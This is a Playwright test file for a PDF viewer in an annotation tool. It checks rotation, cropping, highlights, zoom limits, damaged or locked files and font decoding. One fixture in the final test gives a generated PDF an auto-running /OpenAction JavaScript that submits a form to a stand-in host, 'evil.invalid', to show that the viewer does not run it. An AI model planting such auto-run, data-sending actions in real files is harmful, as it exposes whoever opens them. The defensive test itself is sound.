import { mkdirSync, writeFileSync } from "node:fs";
import * as path from "node:path";
import type { Page } from "@playwright/test";
import { expect, test, type Served } from "./fixtures.ts";
import { classColour } from "#shared/drawing/colour";
import { encodePng } from "../../resources/png.ts";
import { readPixels, type Rgb } from "./pixels.ts";
import { stream, writePdf, type WrittenPage } from "./pdf-writer.ts";

const red: Rgb = [255, 0, 0];
const green: Rgb = [0, 160, 0];
const blue: Rgb = [0, 0, 255];
const white: Rgb = [255, 255, 255];

/** Upright, turned a quarter, cut to a part with an offset, and of another size. */
const pages: readonly WrittenPage[] = [
	{ mediaBox: [0, 0, 600, 800], rects: [{ at: [60, 640, 120, 80], colour: red }] },
	{ mediaBox: [0, 0, 600, 800], rotate: 90, rects: [{ at: [0, 0, 120, 80], colour: green }] },
	{
		mediaBox: [-100, -100, 700, 900],
		cropBox: [200, 300, 500, 700],
		rects: [{ at: [200, 620, 60, 80], colour: blue }],
	},
	{ mediaBox: [0, 0, 400, 100], rects: [{ at: [0, 50, 400, 50], colour: red }] },
];

interface Area {
	title: string;
	/** 1-based. */
	page: number;
	/** Shares of the page. */
	rect: readonly [x1: number, y1: number, x2: number, y2: number];
	text?: string;
	image?: string;
	rects?: readonly (readonly [number, number, number, number])[];
	/** Units of the viewer. */
	size?: { width: number; height: number };
}

function toolOf({ title, page, rect, text, image, rects = [], size = { width: 900, height: 1200 } }: Area, at: number) {
	const inUnits = ([x1, y1, x2, y2]: readonly [number, number, number, number]) => ({
		x1: x1 * size.width,
		y1: y1 * size.height,
		x2: x2 * size.width,
		y2: y2 * size.height,
		...size,
	});
	return {
		objectId: `o${String(at)}`,
		schemaId: title,
		title,
		classifications: [],
		pdf: {
			position: { boundingRect: inUnits(rect), rects: rects.map(inUnits), pageNumber: page },
			content: { ...(text === undefined ? {} : { text }), ...(image === undefined ? {} : { image }) },
		},
	};
}

/** An export of one task with areas, and the folder with its PDF (null: without); shown in the page. */
async function openPdf(served: Served, pdf: Buffer | null, areas: readonly Area[]): Promise<Page> {
	const media = path.join(served.folder, "documents");
	mkdirSync(media);
	if (pdf !== null) writeFileSync(path.join(media, "paper.pdf"), pdf);
	const task = {
		taskId: "t",
		stage: "Label",
		stageId: "Label",
		tools: areas.map(toolOf),
		classifications: [],
		relations: [],
	};
	const file = path.join(served.folder, "export.json");
	writeFileSync(file, JSON.stringify([{ asset: "https://host.invalid/p/paper.pdf", externalId: "paper.pdf", task }]));
	return served.open("--media", media, file);
}

/** The colour at a share of the page, of which the canvas shows all. @param size of the page, points */
async function colourAt(page: Page, size: { width: number; height: number }) {
	const box = await page.getByRole("application").boundingBox();
	if (box === null) throw new Error("There is no canvas");
	const pixel = await readPixels(page, await page.screenshot({ clip: box }));
	const margin = 16;
	const zoom = Math.min((box.width - 2 * margin) / size.width, (box.height - 2 * margin) / size.height);
	return (x: number, y: number): Rgb =>
		pixel(
			Math.round(box.width / 2 + (x - 0.5) * size.width * zoom),
			Math.round(box.height / 2 + (y - 0.5) * size.height * zoom),
		);
}

/** Waits until the page, all of it in view, has these colours at these shares of it. */
async function expectColours(
	page: Page,
	size: { width: number; height: number },
	colours: readonly (readonly [x: number, y: number, colour: Rgb])[],
): Promise<void> {
	await expect(async () => {
		const at = await colourAt(page, size);
		expect(colours.map(([x, y]) => at(x, y))).toEqual(colours.map(([, , colour]) => colour));
	}).toPass({ timeout: 20_000 });
}

async function goTo(page: Page, number: number): Promise<void> {
	const field = page.getByRole("textbox", { name: "Page, counted from 1" });
	await field.fill(String(number));
	await field.press("Enter");
}

test("pages are painted as they are seen: upright, turned, cut and of different sizes", async ({ served }) => {
	const page = await openPdf(served, writePdf(pages), [{ title: "Speck", page: 4, rect: [0, 0, 0.01, 0.01] }]);
	await expect(page.getByText("of 4 ·")).toBeVisible();
	await goTo(page, 1);
	await expectColours(page, { width: 600, height: 800 }, [
		[0.2, 0.15, red],
		[0.05, 0.15, white],
		[0.2, 0.3, white],
	]);
	await goTo(page, 2);
	// Turned clockwise: the lower left corner goes to the upper left.
	await expectColours(page, { width: 800, height: 600 }, [
		[0.05, 0.1, green],
		[0.15, 0.1, white],
		[0.05, 0.3, white],
	]);
	await goTo(page, 3);
	await expectColours(page, { width: 300, height: 400 }, [
		[0.1, 0.1, blue],
		[0.3, 0.1, white],
		[0.1, 0.3, white],
	]);
	await goTo(page, 4);
	await expectColours(page, { width: 400, height: 100 }, [
		[0.5, 0.25, red],
		[0.5, 0.75, white],
	]);
});

test("highlights and areas lie on the page in the colours of their classes, and can be pointed at and chosen", async ({
	served,
}) => {
	const image = `data:image/png;base64,${Buffer.from(encodePng(2, 1, new Uint8Array(8).fill(200))).toString("base64")}`;
	const page = await openPdf(served, writePdf(pages), [
		{
			title: "Company",
			page: 1,
			rect: [0.1, 0.5, 0.7, 0.6],
			rects: [
				[0.1, 0.5, 0.3, 0.6],
				[0.5, 0.5, 0.7, 0.6],
			],
			text: "Acme Fasteners",
		},
		{ title: "Stamp", page: 1, rect: [0.1, 0.1, 0.3, 0.2], text: "PAID, by OCR", image },
		{ title: "Elsewhere", page: 3, rect: [0, 0, 1, 1] },
	]);
	const size = { width: 600, height: 800 };
	await expectColours(page, size, [[0.4, 0.55, white]]);
	const at = await colourAt(page, size);
	const company = classColour("Company", "light");
	const filled = at(0.2, 0.55);
	expect(filled).not.toEqual(white);
	expect(at(0.6, 0.55)).toEqual(filled);
	// An area of 12 % over the red rectangle that the page has there.
	expect(at(0.2, 0.15)).not.toEqual(red);
	expect(at(0.2, 0.15)[0]).toBeGreaterThan(200);
	expect(company.stroke).toMatch(/^#/u);

	const canvas = page.getByRole("application");
	const box = await canvas.boundingBox();
	if (box === null) throw new Error("There is no canvas");
	const zoom = Math.min((box.width - 32) / size.width, (box.height - 32) / size.height);
	const place = (x: number, y: number) => ({
		x: box.width / 2 + (x - 0.5) * size.width * zoom,
		y: box.height / 2 + (y - 0.5) * size.height * zoom,
	});
	await canvas.click({ position: place(0.6, 0.55) });
	const selected = page.getByRole("region", { name: "Selected annotation" });
	await expect(selected).toContainText("Acme Fasteners");
	await canvas.click({ position: place(0.2, 0.12) });
	await expect(selected).toContainText("PAID, by OCR");
	const picture = selected.getByRole("img", { name: "The area as it was exported" });
	await expect(picture).toBeVisible();
	expect(await picture.evaluate((element: HTMLImageElement) => [element.naturalWidth, element.naturalHeight])).toEqual([
		2, 1,
	]);
	await goTo(page, 3);
	await expect(page.getByRole("treeitem", { name: /^Fold Elsewhere/u })).toBeVisible();
});

test("a page is painted finer as it is zoomed into, and no finer than the budget", async ({ served }) => {
	const page = await openPdf(served, writePdf(pages), [{ title: "Speck", page: 1, rect: [0, 0, 0.01, 0.01] }]);
	await expectColours(page, { width: 600, height: 800 }, [[0.2, 0.15, red]]);
	await page.getByRole("button", { name: "Task", exact: true }).click();
	const painted = page.getByText(/^[\d\u202f]+ × [\d\u202f]+ px$/u);
	const width = async () => Number((await painted.textContent())?.split(" ×")[0]?.replaceAll(/\D/gu, ""));
	const before = await width();
	const zoomIn = page.getByRole("button", { name: "Zoom in" });
	for (let n = 0; n < 6; n++) await zoomIn.click();
	await expect.poll(width).toBeGreaterThan(2.5 * before);
	for (let n = 0; n < 15; n++) await zoomIn.click();
	// 600 × 800 points within 16 million pixels.
	await expect.poll(width).toBe(3464);
});

test("without its file the areas stand on a page of the size that they name", async ({ served }) => {
	const page = await openPdf(served, null, [{ title: "Clause", page: 2, rect: [0.25, 0.25, 0.75, 0.5] }]);
	const line = page.getByRole("region", { name: "Canvas" }).getByRole("status");
	await expect(line).toContainText("paper.pdf is not in the 1 media folder");
	await expect(line).toContainText("Geometry on a sheet of 900 × 1\u202f200 px, the size that the export names.");
	const at = await colourAt(page, { width: 900, height: 1200 });
	expect(at(0.5, 0.4)).not.toEqual(at(0.1, 0.1));
	expect(at(0.1, 0.1)).toEqual(at(0.9, 0.9));
});

test("a picture of the name of a PDF stands in for it", async ({ served }) => {
	const media = path.join(served.folder, "documents");
	const opened = openPdf(served, null, [{ title: "Clause", page: 1, rect: [0.25, 0.25, 0.75, 0.5] }]);
	writeFileSync(path.join(media, "paper.png"), encodePng(30, 40, new Uint8Array(30 * 40 * 4).fill(255)));
	const page = await opened;
	await expect(page.getByText(/^paper\.png · Matched by/u)).toBeVisible();
});

const good = writePdf(pages);
test.describe("what cannot be shown is said in words, its areas are drawn all the same:", () => {
	const cases: readonly (readonly [name: string, pdf: Buffer, said: RegExp])[] = [
		["locked", writePdf(pages, { locked: true }), /paper\.pdf could not be shown: it is locked with a password/u],
		["cut off in its header", good.subarray(0, 40), /paper\.pdf could not be shown: it is damaged/u],
		["noise behind its header", noise(good), /paper\.pdf could not be shown: it is damaged/u],
		["without pages", writePdf([]), /paper\.pdf could not be shown: it /u],
		["not a PDF", Buffer.from("plain words"), /This file is no PDF: paper\.pdf does not begin as a PDF does\./u],
		[
			"of too few pages",
			writePdf(pages.slice(0, 1)),
			/paper\.pdf could not be shown: it has no page 2, only 1 page\./u,
		],
	];
	for (const [name, pdf, said] of cases) {
		test(name, async ({ served }) => {
			const page = await openPdf(served, pdf, [{ title: "Clause", page: 2, rect: [0.25, 0.25, 0.75, 0.5] }]);
			await expect(page.getByRole("region", { name: "Canvas" }).getByRole("status")).toContainText(said);
			await expect(page.getByRole("treeitem", { name: /^Fold Clause/u })).toBeVisible();
			const at = await colourAt(page, { width: 900, height: 1200 });
			expect(at(0.5, 0.4)).not.toEqual(at(0.1, 0.1));
		});
	}
});

test("a file whose table of contents is wrong is mended, as far as it can be", async ({ served }) => {
	const torn = Buffer.from(good.toString("latin1").replace(/startxref\n\d+/u, "startxref\n7"), "latin1");
	const page = await openPdf(served, torn, [{ title: "Speck", page: 1, rect: [0, 0, 0.01, 0.01] }]);
	await expectColours(page, { width: 600, height: 800 }, [[0.2, 0.15, red]]);
});

test("a document of 2,000 pages opens at its last page, and at its first", async ({ served }) => {
	const many = Array.from({ length: 2000 }, (_, at): WrittenPage => ({
		mediaBox: [0, 0, 200, 200],
		rects: [{ at: [0, 100, 200, 100], colour: at === 0 ? green : at === 1999 ? blue : red }],
	}));
	const page = await openPdf(served, writePdf(many), [{ title: "Last", page: 2000, rect: [0.4, 0.8, 0.6, 0.9] }]);
	const size = { width: 200, height: 200 };
	await expectColours(page, size, [[0.5, 0.25, blue]]);
	await page.getByRole("slider", { name: "Page" }).press("Home");
	await expectColours(page, size, [[0.5, 0.25, green]]);
});

test("fonts, encodings and decoders come from beside the page; a script in the file is not run", async ({ served }) => {
	const fax = stream(
		"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0] " +
			"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 /Rows 8 >>",
		// Eight rows that are as the one before, and the one before the first is white.
		Buffer.from([0xff]),
	);
	const pdf = writePdf(
		[
			{
				mediaBox: [0, 0, 400, 400],
				rects: [],
				resources:
					"/XObject << /I 10000 0 R >> /Font << /H << /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold >> /C 10001 0 R >>",
				more:
					"q 100 0 0 100 0 300 cm /I Do Q BT /H 400 Tf 150 20 Td (I) Tj ET " + "BT /C 40 Tf 10 20 Td <4e2d6587> Tj ET",
			},
		],
		{
			catalogue:
				"/OpenAction << /S /JavaScript /JS (app.alert\\('run'\\); this.submitForm\\('https://evil.invalid/'\\);) >>",
			objects: {
				10000: fax,
				10001:
					"<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [10002 0 R] >>",
				10002:
					"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) " +
					"/Ordering (GB1) /Supplement 2 >> /FontDescriptor 10003 0 R >>",
				10003:
					"<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [0 -120 1000 880] /ItalicAngle 0 " +
					"/Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >>",
			},
		},
	);
	const page = await openPdf(served, pdf, [{ title: "Speck", page: 1, rect: [0.9, 0, 0.91, 0.01] }]);
	await expectColours(page, { width: 400, height: 400 }, [
		[0.125, 0.125, [0, 0, 0]],
		// The stem of a letter I of 400 points.
		[0.515, 0.6, [0, 0, 0]],
	]);
});

/** The header and the length of a file, and nothing that belongs to it. */
function noise(file: Buffer): Buffer {
	const bytes = Buffer.from(Array.from(file, (_, at) => 33 + ((at * 7919) % 90)));
	file.copy(bytes, 0, 0, 9);
	return bytes;
}
